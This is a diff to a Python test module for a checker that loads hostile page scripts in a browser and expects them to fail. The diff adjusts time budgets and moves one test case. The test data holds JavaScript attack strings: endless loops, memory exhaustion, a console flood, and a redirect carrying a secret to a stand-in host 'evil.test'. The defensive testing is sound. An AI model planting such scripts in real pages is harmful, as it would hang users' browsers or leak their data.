@@ -3,7 +3,8 @@
 from __future__ import annotations
 
 import urllib.request
-from collections.abc import Mapping
+from collections.abc import Callable, Iterator, Mapping
+from contextlib import contextmanager
 from dataclasses import dataclass
 
 from checks import render
@@ -12,8 +13,8 @@ from checks.verdict import Outcome, Subject
 from tests.browser.runtime_site import Sink
 from tests.browser.test_runtime_leaks import LEAVING, STAYING, hostile
 
-# A page that hangs costs its whole budget: shorter here than in a worker, long enough for a crowded machine.
-BUDGET_S = 8.0
+# A page that hangs costs its whole budget, so that is short; one that only has much to do gets what a crowded machine takes.
+HANGS_S, BUSY_S = 8.0, 60.0
 
 
 @dataclass(frozen=True, slots=True)
@@ -34,13 +35,13 @@ FAIL, WARN, PASS = Outcome.FAIL, Outcome.WARN, Outcome.PASS
 SHORT: Mapping[str, Attack] = {
     "endless loop": _attack("for (;;);", FAIL, "hung"),
     "endless alerts": _attack("for (;;) alert(1)", FAIL, "hung"),
-    "memory in buffers": _attack("const a = []; for (;;) a.push(new Uint8Array(5e7).fill(1))", FAIL, "hung"),
     "goes elsewhere": _attack("location = 'https://evil.test/?secret'", FAIL, "left"),
     "console flood": _attack(
         "for (let i = 0; i < 2e4; i++) console.error('x'.repeat(5000) + i)", WARN, "console_error"
     ),
 }
 LONG: Mapping[str, Attack] = {
+    "memory in buffers": _attack("const a = []; for (;;) a.push(new Uint8Array(5e7).fill(1))", FAIL, "hung"),
     "loop after loading": _attack(
         "addEventListener('load', () => setTimeout(() => { for (;;); }, 30))", FAIL, "hung"
     ),
@@ -78,6 +79,13 @@ def page(script: str) -> dict[str, str]:
         "index.html": '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>x</title></head><body>'
         f"<main><h1>A page</h1><p>With words.</p></main><script>{script}</script></body></html>"
     }
+
+
+@contextmanager
+def browsers() -> Iterator[Callable[[Attack], Browser]]:
+    """A robot for attacks that hang and one for those that do not; yields which of them meets an attack."""
+    with Browser.launch(budget_s=HANGS_S) as hasty, Browser.launch(budget_s=BUSY_S) as patient:
+        yield lambda attack: hasty if "hung" in attack.codes else patient
 
 
 def judged(browser: Browser, attack: Attack) -> str:
